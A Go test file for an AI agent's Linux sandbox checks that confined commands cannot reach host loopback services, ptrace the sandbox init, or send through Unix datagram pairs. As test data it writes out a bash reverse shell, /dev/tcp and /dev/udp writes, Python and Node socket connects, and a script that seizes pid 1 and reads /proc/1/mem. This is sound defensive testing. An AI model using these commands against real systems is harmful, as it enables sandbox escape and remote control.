//go:build linux

package sandbox_test

import (
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"
)

// hostService is a listener of this machine's, outside every sandbox,
// counting what reaches it: a dev server, a database, a debugger port on
// loopback.
type hostService struct {
	name, port string
	got        atomic.Int64
}

// listenHost starts TCP and UDP services on 127.0.0.1 and, where this
// machine has it, ::1.
func listenHost(t *testing.T) []*hostService {
	t.Helper()
	var out []*hostService
	for _, l := range []struct{ name, network, addr string }{
		{"tcp4", "tcp4", "127.0.0.1:0"}, {"tcp6", "tcp6", "[::1]:0"},
		{"udp4", "udp4", "127.0.0.1:0"}, {"udp6", "udp6", "[::1]:0"},
	} {
		s := &hostService{name: l.name}
		if strings.HasPrefix(l.network, "tcp") {
			ln, err := net.Listen(l.network, l.addr)
			if err != nil {
				t.Logf("%s: no listener here (%v)", l.name, err)
				continue
			}
			t.Cleanup(func() { ln.Close() })
			_, s.port, _ = net.SplitHostPort(ln.Addr().String())
			go func() {
				for {
					c, err := ln.Accept()
					if err != nil {
						return
					}
					s.got.Add(1) // a connection is already the door open
					go func() {
						defer c.Close()
						buf := make([]byte, 512)
						for {
							n, err := c.Read(buf)
							s.got.Add(int64(n))
							if err != nil {
								return
							}
						}
					}()
				}
			}()
		} else {
			pc, err := net.ListenPacket(l.network, l.addr)
			if err != nil {
				t.Logf("%s: no listener here (%v)", l.name, err)
				continue
			}
			t.Cleanup(func() { pc.Close() })
			_, s.port, _ = net.SplitHostPort(pc.LocalAddr().String())
			go func() {
				buf := make([]byte, 512)
				for {
					n, _, err := pc.ReadFrom(buf)
					if err != nil {
						return
					}
					s.got.Add(int64(n))
				}
			}()
		}
		out = append(out, s)
	}
	return out
}

// netAttacks reach each host service from a confined command, in the ways
// an agent's command line would: bash's /dev/tcp and /dev/udp, a reverse
// shell, Python and Node sockets.
func netAttacks(s *hostService) map[string]string {
	host := "127.0.0.1"
	if strings.HasSuffix(s.name, "6") {
		host = "::1"
	}
	proto := s.name[:3]
	a := map[string]string{
		"bash /dev/" + proto: fmt.Sprintf(`echo attack > /dev/%s/%s/%s`, proto, host, s.port),
	}
	if proto == "tcp" {
		a["reverse shell"] = fmt.Sprintf(`timeout -s KILL 2 bash -i >& /dev/tcp/%s/%s 0>&1`, host, s.port)
		a["python connect"] = fmt.Sprintf(`python3 -c "import socket;s=socket.create_connection(('%s',%s));s.sendall(b'attack')"`, host, s.port)
		if _, err := exec.LookPath("node"); err == nil {
			a["node connect"] = fmt.Sprintf(`node -e 'const c=require("net").connect(%s,"%s",()=>{c.end("attack")})'`, s.port, host)
		}
	} else {
		a["python sendto"] = fmt.Sprintf(`python3 -c "import socket;socket.socket(socket.AF_INET%s,socket.SOCK_DGRAM).sendto(b'attack',('%s',%s))"`, map[bool]string{true: "6"}[host == "::1"], host, s.port)
	}
	return a
}

// TestNetworkOff (issue 44): with "network": "off" in the person's policy,
// a confined command reaches none of this machine's services on loopback,
// TCP or UDP, IPv4 or IPv6, by any of the usual doors, with namespaces
// (a network namespace of its own) and under Landlock alone (seccomp
// refuses Internet sockets); each attack is first shown to reach the
// service with the network on.
func TestNetworkOff(t *testing.T) {
	needSandbox(t)
	services := listenHost(t)
	if len(services) == 0 {
		t.Fatal("no loopback listener could be made")
	}
	w := newWorld(t)
	policy := filepath.Join(w.home, ".pi", "piagent-policy.json")
	runAll := func(bin string, env []string, s *hostService) map[string]string {
		outs := map[string]string{}
		for name, script := range netAttacks(s) {
			args := []string{"sandbox", "exec", "--", "/bin/bash", "-c", script}
			if bin == leanBin {
				args = args[1:]
			}
			cmd := exec.Command(bin, args...)
			cmd.Dir, cmd.Env = w.proj, env
			out, _ := cmd.CombinedOutput()
			outs[name] = string(out)
		}
		return outs
	}
	settle := func() { time.Sleep(150 * time.Millisecond) }

	// The control: with the network on, every attack reaches its service.
	for _, s := range services {
		for name, script := range netAttacks(s) {
			before := s.got.Load()
			cmd := exec.Command(leanBin, "exec", "--", "/bin/bash", "-c", script)
			cmd.Dir, cmd.Env = w.proj, w.env
			out, _ := cmd.CombinedOutput()
			settle()
			if s.got.Load() == before {
				t.Errorf("control, %s %s: nothing reached the service with the network on, so the attack proves nothing\n%s", s.name, name, out)
			}
		}
	}

	write(t, policy, `{"version": 1, "network": "off"}`)
	for _, c := range []struct {
		name, bin string
		env       []string
	}{
		{"namespaces (piagent-sandbox)", leanBin, w.env},
		{"namespaces (piagent sandbox exec)", piagentBin, w.env},
		{"Landlock alone", faultBin, append(append([]string{}, w.env...), "PIAGENT_SANDBOX_FAULT=mount")},
	} {
		if strings.HasPrefix(c.name, "namespaces") && probed().Namespaces == "" {
			continue // needSandbox failed already in CI
		}
		for _, s := range services {
			before := s.got.Load()
			outs := runAll(c.bin, c.env, s)
			settle()
			if got := s.got.Load() - before; got != 0 {
				t.Errorf("%s: %s was reached (%d bytes or connections) with the network off:\n%v", c.name, s.name, got, outs)
			}
		}
	}

	// Its own loopback works with namespaces (a project's tests may run a
	// server), and the network namespace is really a new one.
	if probed().Namespaces != "" {
		cmd := exec.Command(leanBin, "exec", "--", "python3", "-c",
			"import socket;s=socket.socket();s.bind(('127.0.0.1',0));s.listen();c=socket.create_connection(s.getsockname());c.sendall(b'x');a,_=s.accept();print('own loopback', a.recv(1).decode())")
		cmd.Dir, cmd.Env = w.proj, w.env
		if out, err := cmd.CombinedOutput(); err != nil || !strings.Contains(string(out), "own loopback x") {
			t.Errorf("the command's own loopback: %v\n%s", err, out)
		}
		mine, err := os.Readlink("/proc/self/ns/net")
		if err != nil {
			t.Fatal(err)
		}
		cmd = exec.Command(leanBin, "exec", "--", "readlink", "/proc/self/ns/net")
		cmd.Dir, cmd.Env = w.proj, w.env
		out, err := cmd.CombinedOutput()
		if err != nil || strings.TrimSpace(string(out)) == mine {
			t.Errorf("the command's network namespace is this one's (%s): %v %s", mine, err, out)
		}
	}
	// vsock reaches the hypervisor's host, and no namespace separates it.
	cmd := exec.Command(leanBin, "exec", "--", "python3", "-c", "import socket;socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)")
	cmd.Dir, cmd.Env = w.proj, w.env
	if out, err := cmd.CombinedOutput(); err == nil || !strings.Contains(string(out), "Permission denied") {
		var ee *exec.ExitError
		t.Errorf("a vsock socket with the network off: %v (%v) %s", err, errors.As(err, &ee), out)
	}

	// A repository cannot turn it back on.
	must(t, os.MkdirAll(filepath.Join(w.proj, ".pi"), 0o755))
	write(t, filepath.Join(w.proj, ".pi", "piagent-policy.json"), `{"version": 1, "network": "on"}`)
	for _, s := range services[:1] {
		before := s.got.Load()
		outs := runAll(leanBin, w.env, s)
		settle()
		if got := s.got.Load() - before; got != 0 {
			t.Errorf("a repository's \"network\": \"on\" reached %s:\n%v", s.name, outs)
		}
	}
	t.Logf("%d host services (TCP/UDP, IPv4/IPv6 where present) reached by every attack with the network on and by none with it off, with namespaces and under Landlock alone", len(services))
}

// ptraceInit tries, from inside the sandbox, what finding 1 of the
// network review did first: PTRACE_SEIZE of the init (pid 1), and opening
// its memory and environment. It prints one word per door.
const ptraceInit = `import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
r = libc.ptrace(0x4206, 1, None, None)
print("seize:" + ("ok" if r == 0 else os.strerror(ctypes.get_errno())))
for f in ("/proc/1/mem", "/proc/1/environ"):
    try:
        open(f, "rb").read(1)
        print(f + ":ok")
    except OSError as e:
        print(f + ":" + e.strerror)
`

// TestInitOutOfReach: the sandbox's init holds, on its other threads, what
// the command gave up (root's capabilities, for root), so the command must
// not reach it: no ptrace, no /proc/1/mem or environ, as root and as an
// ordinary user. The control, a fault build whose init stays dumpable,
// shows the attack's first step working.
func TestInitOutOfReach(t *testing.T) {
	needNamespaces(t)
	w := newWorld(t)
	script := filepath.Join(w.root, "ptrace.py")
	write(t, script, ptraceInit)
	run := func(bin string, env []string) string {
		cmd := exec.Command(bin, "sandbox", "exec", "--", "python3", script)
		cmd.Dir, cmd.Env = w.proj, env
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("%v: %s", err, out)
		}
		return string(out)
	}
	control := run(faultBin, append(append([]string{}, w.env...), "PIAGENT_SANDBOX_FAULT=dumpable"))
	if !strings.Contains(control, "seize:ok") {
		t.Fatalf("control: a dumpable init could not be seized, so the test proves nothing:\n%s", control)
	}
	for _, bin := range []string{piagentBin, leanBin} {
		args := []string{"sandbox", "exec", "--", "python3", script}
		if bin == leanBin {
			args = args[1:]
		}
		cmd := exec.Command(bin, args...)
		cmd.Dir, cmd.Env = w.proj, w.env
		outb, err := cmd.CombinedOutput()
		out := string(outb)
		if err != nil || strings.Contains(out, ":ok") || !strings.Contains(out, "seize:Operation not permitted") {
			t.Errorf("%s: the command reached its init: %v\n%s", filepath.Base(bin), err, out)
		}
	}
}

// TestNetworkOffWithoutSandbox: where no sandbox applies at all (a kernel
// without Landlock, simulated by a fault build), --auto — what the
// extension passes — runs a command unconfined; with "network": "off" it
// must refuse instead, and the host service hears nothing. The control:
// with the network on, the same command runs, unconfined, and reaches it.
func TestNetworkOffWithoutSandbox(t *testing.T) {
	services := listenHost(t)
	w := newWorld(t)
	s := services[0]
	env := append(append([]string{}, w.env...), "PIAGENT_SANDBOX_FAULT=no-landlock")
	attack := fmt.Sprintf(`echo attack > /dev/tcp/127.0.0.1/%s`, s.port)
	run := func() (string, error) {
		cmd := exec.Command(faultBin, "sandbox", "exec", "--auto", "--", "/bin/bash", "-c", attack)
		cmd.Dir, cmd.Env = w.proj, env
		out, err := cmd.CombinedOutput()
		time.Sleep(150 * time.Millisecond)
		return string(out), err
	}
	before := s.got.Load()
	if out, err := run(); err != nil || s.got.Load() == before || !strings.Contains(out, "command reader alone") {
		t.Fatalf("control: with the network on and no sandbox, --auto should run the command unconfined: %v\n%s", err, out)
	}
	write(t, filepath.Join(w.home, ".pi", "piagent-policy.json"), `{"version": 1, "network": "off"}`)
	before = s.got.Load()
	out, err := run()
	if err == nil || s.got.Load() != before {
		t.Errorf("network off, no sandbox: ran (%v), %d reached\n%s", err, s.got.Load()-before, out)
	}
	if !strings.Contains(out, `"network": "off"`) || !strings.Contains(out, "nothing was run") {
		t.Errorf("the refusal does not say why:\n%s", out)
	}
	cmd := exec.Command(faultBin, "sandbox", "status")
	cmd.Dir, cmd.Env = w.proj, env
	st, _ := cmd.CombinedOutput()
	if !strings.Contains(string(st), "network: off in your policy, and nothing here can apply it") {
		t.Errorf("sandbox status does not say the network cannot be taken away:\n%s", st)
	}
}

// TestDatagramPairRefused: a Unix datagram pair could sendto, or connect
// again to, a named datagram socket outside (journald, /dev/log,
// systemd's notify socket); the filter refuses the pair, in every profile.
// The control: unconfined, the same line reaches the test's socket.
func TestDatagramPairRefused(t *testing.T) {
	needSandbox(t)
	w := newWorld(t)
	sock := filepath.Join(w.root, "d.sock")
	conn, err := net.ListenUnixgram("unixgram", &net.UnixAddr{Name: sock, Net: "unixgram"})
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	os.Chmod(sock, 0o777)
	var got atomic.Int64
	go func() {
		buf := make([]byte, 64)
		for {
			n, _, err := conn.ReadFrom(buf)
			if err != nil {
				return
			}
			got.Add(int64(n))
		}
	}()
	line := fmt.Sprintf(`import socket;a,b=socket.socketpair(socket.AF_UNIX,socket.SOCK_DGRAM);a.sendto(b"attack",%q)`, sock)
	if out, err := exec.Command("python3", "-c", line).CombinedOutput(); err != nil {
		t.Fatalf("control: %v %s", err, out)
	}
	time.Sleep(100 * time.Millisecond)
	if got.Load() == 0 {
		t.Fatal("control: the unconfined line did not reach the socket, so the test proves nothing")
	}
	before := got.Load()
	for _, c := range []struct {
		name string
		bin  string
		env  []string
	}{{"namespaces", leanBin, w.env}, {"Landlock alone", faultBin, append(append([]string{}, w.env...), "PIAGENT_SANDBOX_FAULT=mount")}} {
		args := []string{"sandbox", "exec", "--", "python3", "-c", line}
		if c.bin == leanBin {
			args = args[1:]
		}
		cmd := exec.Command(c.bin, args...)
		cmd.Dir, cmd.Env = w.proj, c.env
		out, err := cmd.CombinedOutput()
		time.Sleep(100 * time.Millisecond)
		if err == nil || got.Load() != before || !strings.Contains(string(out), "Permission denied") {
			t.Errorf("%s: a datagram pair reached %s: %v\n%s", c.name, sock, err, out)
		}
	}
}
